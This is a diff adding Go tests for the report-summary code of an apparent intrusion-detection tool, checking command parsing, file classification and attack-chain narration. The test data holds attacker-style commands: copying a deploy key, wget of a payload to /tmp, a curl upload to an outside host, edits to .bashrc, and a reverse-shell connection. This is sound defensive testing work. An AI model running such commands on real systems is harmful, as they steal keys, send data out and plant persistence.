@@ -1,0 +1,165 @@
+package report
+
+import (
+	"html"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestSummaryHelpers(t *testing.T) {
+	t.Run("sshTarget", func(t *testing.T) {
+		for _, tc := range []struct {
+			args []string
+			want string
+		}{
+			{[]string{"ssh", "-i", "/tmp/.k", "-o", "BatchMode=yes", "deploy@10.0.0.5", "id"}, "deploy@10.0.0.5"},
+			{[]string{"ssh", "-l", "root", "-p", "2222", "db01"}, "root@db01"},
+			{[]string{"ssh", "-v"}, ""},
+		} {
+			if got := sshTarget(tc.args); got != tc.want {
+				t.Errorf("sshTarget(%q) = %q, want %q", tc.args, got, tc.want)
+			}
+		}
+	})
+	t.Run("writtenPaths", func(t *testing.T) {
+		for _, tc := range []struct {
+			args []string
+			cmd  string
+			want []string
+		}{
+			{[]string{"cp", "/var/www/html/backup/deploy_key", "/tmp/.k"}, "", []string{"/tmp/.k"}},
+			{[]string{"tar", "czf", "/tmp/.d.tgz", "-C", "/var/www/html", "data"}, "", []string{"/tmp/.d.tgz"}},
+			{[]string{"tar", "xzf", "/tmp/.d.tgz"}, "", nil},
+			{[]string{"wget", "-q", "http://h/x", "-O", "/tmp/.sysd"}, "", []string{"/tmp/.sysd"}},
+			{[]string{"sh"}, `echo "x" >> /home/u/.profile 2>/dev/null`, []string{"/home/u/.profile"}},
+			{[]string{"sh"}, `id > /dev/null 2>&1`, nil},
+			{[]string{"sed", "-i", "1i dig x", "/home/u/.bashrc"}, "", []string{"/home/u/.bashrc"}},
+		} {
+			name := baseName(tc.args[0])
+			if got := writtenPaths(name, tc.args, tc.cmd); !slices.Equal(got, tc.want) {
+				t.Errorf("writtenPaths(%q, %q) = %q, want %q", tc.args, tc.cmd, got, tc.want)
+			}
+		}
+	})
+	t.Run("urlPeers", func(t *testing.T) {
+		got := urlPeers([]string{"curl", "-s", "-T", "/tmp/a", "http://user@203.0.113.7:8080/u?x=1", "file:///etc/passwd"})
+		if !slices.Equal(got, []string{"203.0.113.7:8080"}) {
+			t.Errorf("urlPeers = %q", got)
+		}
+	})
+	t.Run("containsCommand", func(t *testing.T) {
+		if !containsCommand("ping -c 1 127.0.0.1;id", "id") || containsCommand("ping -c 1 127.0.0.1;idx", "id") {
+			t.Error("containsCommand does not split on ;")
+		}
+	})
+	t.Run("fileKind", func(t *testing.T) {
+		for p, want := range map[string]string{
+			"/var/spool/cron/crontabs/www-data": CleanPersistence,
+			"/home/u/.ssh/authorized_keys":      CleanKey,
+			"/etc/systemd/system/x.service":     CleanPersistence,
+			"/home/u/.bashrc":                   CleanPersistence,
+			"/etc/shadow":                       CleanAccount,
+			"/var/www/html/uploads/avatar.php":  CleanFile,
+			"/etc/ld.so.preload":                CleanPersistence,
+		} {
+			if got := fileKind(p, 0); got != want {
+				t.Errorf("fileKind(%s) = %s, want %s", p, got, want)
+			}
+		}
+	})
+	t.Run("pidIn", func(t *testing.T) {
+		if !pidIn("ancestry: pid 1159 (dash) spawned by php-fpm8.2 pid 31689", 31689) || pidIn("pid 11590 (dash)", 1159) {
+			t.Error("pidIn matches a prefix of a longer pid, or misses a whole one")
+		}
+	})
+}
+
+// TestSummaryModel builds the summary of a small document: a told chain
+// with an inferred stage, a folded low chain, the links and the clean-up.
+func TestSummaryModel(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	proc := func(pid int, args ...string) *DocProcess {
+		return &DocProcess{PID: pid, Exe: "/usr/bin/" + args[0], Args: args, User: "www-data", UID: 33,
+			Ancestors: []DocAncestor{{PID: 900, Exe: "/usr/sbin/php-fpm8.2"}}}
+	}
+	d := &Document{
+		Findings: []DocFinding{
+			{ID: "F0001", Title: "Cron", Severity: "high", Stage: 5, StageID: "persistence", Time: t0, Kind: "exec",
+				Summary: "exec crontab -", Process: proc(10, "crontab", "-"), ChainID: "C01"},
+			{ID: "F0002", Title: "Reverse shell", Severity: "critical", Stage: 7, StageID: "command-and-control", Time: t0.Add(time.Second),
+				Kind: "connect", Peer: "203.0.113.7:4444", Summary: "connect 203.0.113.7:4444", Process: proc(11, "bash", "-i"), ChainID: "C01"},
+			{ID: "F0003", Title: "Shell spawn", Severity: "low", Stage: 3, StageID: "command-execution", Time: t0, Kind: "exec",
+				Summary: "exec sh -c date", Process: proc(20, "sh", "-c", "date"), ChainID: "C02"},
+		},
+		Chains: []DocChain{
+			{ID: "C01", Severity: "critical", Score: 400 + 20 + 5 + 2, FindingIDs: []string{"F0001", "F0002"},
+				Links: []string{"ancestry: pid 11 (bash) spawned by php-fpm8.2 pid 900", "peer: 203.0.113.7:4444 used by pid 11"},
+				Stages: []DocStage{
+					{Stage: 1, StageID: "initial-access", Name: "Initial access", Observed: true, Confidence: "inferred", Reason: "inferred from stage 5"},
+					{Stage: 5, StageID: "persistence", Name: "Persistence", Observed: true, Confidence: "observed", FirstSeen: t0, FindingIDs: []string{"F0001"}},
+					{Stage: 7, StageID: "command-and-control", Name: "Command and control", Observed: true, Confidence: "observed", FirstSeen: t0.Add(time.Second), FindingIDs: []string{"F0002"}},
+				}},
+			{ID: "C02", Severity: "low", Score: 111, FindingIDs: []string{"F0003"},
+				Stages: []DocStage{{Stage: 3, StageID: "command-execution", Name: "Command execution", Observed: true, Confidence: "observed", FindingIDs: []string{"F0003"}}}},
+		},
+	}
+	buildSummary(d)
+	s := d.Summary
+	if len(s.Chains) != 1 || s.Chains[0].ChainID != "C01" || len(s.Folded) != 1 || s.Folded[0].ChainID != "C02" {
+		t.Fatalf("told %+v, folded %+v: want C01 told and C02 folded", s.Chains, s.Folded)
+	}
+	st := s.Chains[0]
+	if len(st.Sentences) != 3 || !st.Sentences[0].Inferred || !strings.Contains(st.Sentences[0].Text, "inferred") {
+		t.Errorf("sentences %+v: want 3, the first the inferred stage 1 saying so", st.Sentences)
+	}
+	if st.ScoreParts != "400 critical + 20 for 2 stages observed + 5 for 1 inferred + 2 for findings" {
+		t.Errorf("score parts %q", st.ScoreParts)
+	}
+	if strings.Contains(st.Sentences[1].Text, "www-data") {
+		t.Errorf("the chain's one account is named again in %q (the headline says it)", st.Sentences[1].Text)
+	}
+	want := map[string]string{"/var/spool/cron/crontabs/www-data": CleanPersistence, "203.0.113.7:4444": CleanChannel}
+	for _, c := range s.Cleanup {
+		if want[c.What] == c.Kind {
+			delete(want, c.What)
+		}
+	}
+	if len(want) > 0 {
+		t.Errorf("clean-up %+v misses %v", s.Cleanup, want)
+	}
+	if got := d.Findings[1].ChainLink; !strings.HasPrefix(got, "peer: 203.0.113.7:4444") {
+		t.Errorf("F0002's chain link is %q, want the peer link", got)
+	}
+	if got := d.Findings[0].ChainLink; !strings.Contains(got, "through its ancestor php-fpm8.2[900]") {
+		t.Errorf("F0001's chain link is %q, want the link through its parent", got)
+	}
+}
+
+// TestSummaryEveryWriter: the text and the HTML report tell the same
+// summary, sentence by sentence, because both render the Document's.
+func TestSummaryEveryWriter(t *testing.T) {
+	c := attackCase(fixtureOptions{})
+	d := NewDocument(c, goldenOptions())
+	if d.Summary == nil || len(d.Summary.Chains) == 0 {
+		t.Fatal("the attack fixture has no told chain")
+	}
+	text := string(render(t, "text", goldenOptions(), c))
+	page := html.UnescapeString(string(render(t, "html", goldenOptions(), c)))
+	flat := strings.Join(strings.Fields(text), " ")
+	for _, x := range d.Summary.Chains[0].Sentences {
+		words := strings.Join(strings.Fields(sanitize(x.Text)), " ")
+		if !strings.Contains(flat, words) {
+			t.Errorf("the text report lacks %q", words)
+		}
+		if !strings.Contains(page, sanitize(x.Text)) {
+			t.Errorf("the HTML report lacks %q", x.Text)
+		}
+	}
+	for _, cl := range d.Summary.Cleanup {
+		if !strings.Contains(text, cl.What) || !strings.Contains(page, cl.What) {
+			t.Errorf("clean-up %q is not in both reports", cl.What)
+		}
+	}
+}
